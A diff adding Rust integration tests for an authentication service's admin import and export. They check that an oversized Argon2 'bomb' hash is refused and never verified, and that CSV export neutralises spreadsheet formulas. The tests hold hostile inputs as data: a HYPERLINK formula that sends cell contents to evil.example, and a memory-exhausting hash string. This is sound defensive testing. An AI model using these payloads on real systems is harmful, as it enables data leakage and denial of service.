@@ -333,3 +333,182 @@ async fn audit_log_is_readable_by_auditors_only() {
     let (s, _) = get_json(&format!("{url}&result=bogus"), Some(&auditor)).await;
     assert_eq!(s, 400);
 }
+
+async fn import(
+    svc: &bk_auth::testing::TestLogin,
+    token: &str,
+    content_type: &str,
+    body: String,
+    overwrite: bool,
+) -> (u16, serde_json::Value) {
+    let resp = client()
+        .post(format!(
+            "{}/login/api/admin/import/?overwrite={overwrite}",
+            svc.base_url
+        ))
+        .header("cookie", format!("bk_token={token}"))
+        .header("content-type", content_type)
+        .body(body)
+        .send()
+        .await
+        .unwrap();
+    (resp.status().as_u16(), resp.json().await.unwrap())
+}
+
+async fn export(svc: &bk_auth::testing::TestLogin, token: &str, format: &str) -> String {
+    client()
+        .get(format!(
+            "{}/login/api/admin/export/?format={format}&include_hashes=true",
+            svc.base_url
+        ))
+        .header("cookie", format!("bk_token={token}"))
+        .send()
+        .await
+        .unwrap()
+        .text()
+        .await
+        .unwrap()
+}
+
+#[tokio::test]
+async fn argon2_hashes_above_the_cost_cap_are_refused_and_never_verified() {
+    let dir = tempfile::tempdir().unwrap();
+    let db = bk_core::db::Db::connect(
+        &format!("sqlite://{}", dir.path().join("login.db").display()),
+        &bk_core::db::DbOptions::default(),
+    )
+    .await
+    .unwrap();
+    let svc = bk_auth::testing::spawn_on(
+        db.clone(),
+        bk_auth::testing::test_config(),
+        bk_core::clock::system(),
+        dir,
+    )
+    .await;
+    let admin = admin_token(&svc).await;
+    let bomb = "$argon2id$v=19$m=4294967295,t=1,p=1$c2FsdHNhbHQ$aGFzaGhhc2hoYXNoaGFzaA";
+    let body = json!([{"username": "fine0001"}, {"username": "bomb0001", "password_hash": bomb}]);
+    let (s, b) = import(&svc, &admin, "application/json", body.to_string(), false).await;
+    assert_eq!(s, 400, "{b}");
+    let msg = b["message"].as_str().unwrap();
+    assert!(
+        msg.contains("row 2")
+            && msg.contains("m=4294967295")
+            && msg.contains("nothing was written"),
+        "{msg}"
+    );
+    assert!(svc.service.find_user("fine0001").await.unwrap().is_none());
+
+    // A hash planted in the store behind the import's back is never verified: the right
+    // password of a hash made at 5x the configured memory does not log in, and a
+    // terabyte-sized one fails at once without allocating it.
+    let heavy = bk_auth::password::Hasher::new(&bk_auth::config::Argon2Config {
+        memory_kib: 5 * 1024,
+        iterations: 1,
+        parallelism: 1,
+        max_concurrent: 1,
+    })
+    .unwrap();
+    let stored = std::sync::Arc::new(heavy)
+        .hash("Planted-pass-1")
+        .await
+        .unwrap();
+    let store = bk_auth::store::sql::SqlStore::new(db);
+    use bk_auth::store::UserStore;
+    for (name, hash) in [("heavy001", stored.as_str()), ("bomb0002", bomb)] {
+        let mut u = bk_auth::model::NewUser {
+            username: name.into(),
+            source: "local".into(),
+            ..Default::default()
+        };
+        u.password_hash = Some(hash.into());
+        store.create(u, 0).await.unwrap();
+    }
+    assert!(svc.login("heavy001", "Planted-pass-1").await.is_none());
+    assert!(svc.login("bomb0002", "anything").await.is_none());
+    assert_eq!(
+        svc.service
+            .find_user("heavy001")
+            .await
+            .unwrap()
+            .unwrap()
+            .password_hash
+            .as_deref(),
+        Some(stored.as_str()),
+        "not upgraded either"
+    );
+}
+
+#[tokio::test]
+async fn csv_export_escapes_formulas_and_exports_re_import_to_the_same_users() {
+    let svc = spawn_login().await;
+    let admin = admin_token(&svc).await;
+    let evil = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
+    let pw = create_user(&svc, &admin, "mallory1", &[0]).await;
+    let mallory = svc.login("mallory1", &pw).await.unwrap();
+    let (s, _) = send_json(
+        Method::PATCH,
+        &format!("{}/login/api/profile/", svc.base_url),
+        &mallory,
+        json!({"chname": evil, "phone": "+86 138 0000 0000"}),
+    )
+    .await;
+    assert_eq!(s, 200);
+    for (name, roles) in [
+        ("alice001", vec![1, 2]),
+        ("bob00001", vec![4]),
+        ("carol001", vec![]),
+    ] {
+        create_user(&svc, &admin, name, &roles).await;
+    }
+    send_json(
+        Method::PATCH,
+        &format!("{}/login/api/admin/users/carol001/", svc.base_url),
+        &admin,
+        json!({"disabled": true, "wx_userid": "-wx", "email": "@x@corp.example"}),
+    )
+    .await;
+    let csv = export(&svc, &admin, "csv").await;
+    let line = csv.lines().find(|l| l.starts_with("mallory1,")).unwrap();
+    assert!(line.contains("'=HYPERLINK("), "{line}");
+    assert!(line.contains("'+86 138"), "{line}");
+    assert!(
+        !csv.lines().any(|l| l
+            .split(',')
+            .any(|c| c.trim_start_matches('"').starts_with(['=', '+', '-', '@']))),
+        "no cell starts a formula: {csv}"
+    );
+    let json_export = export(&svc, &admin, "json").await;
+
+    // Each export into a fresh service gives back the same users (hashes included).
+    for (format, content_type, body) in [
+        ("csv", "text/csv", csv.clone()),
+        ("json", "application/json", json_export.clone()),
+    ] {
+        let other = spawn_login().await;
+        let other_admin = admin_token(&other).await;
+        let (s, b) = import(&other, &other_admin, content_type, body, true).await;
+        assert_eq!(s, 200, "{format}: {b}");
+        // The import replaced admin's hash by the first service's: log in again.
+        let other_admin = admin_token(&other).await;
+        assert_eq!(
+            export(&other, &other_admin, format).await,
+            if format == "csv" {
+                csv.clone()
+            } else {
+                json_export.clone()
+            },
+            "{format} round trip"
+        );
+        let m = other.service.find_user("mallory1").await.unwrap().unwrap();
+        assert_eq!(
+            (m.chname.as_str(), m.phone.as_str()),
+            (evil, "+86 138 0000 0000")
+        );
+        assert!(
+            other.login("mallory1", &pw).await.is_some(),
+            "{format}: hash kept"
+        );
+    }
+}
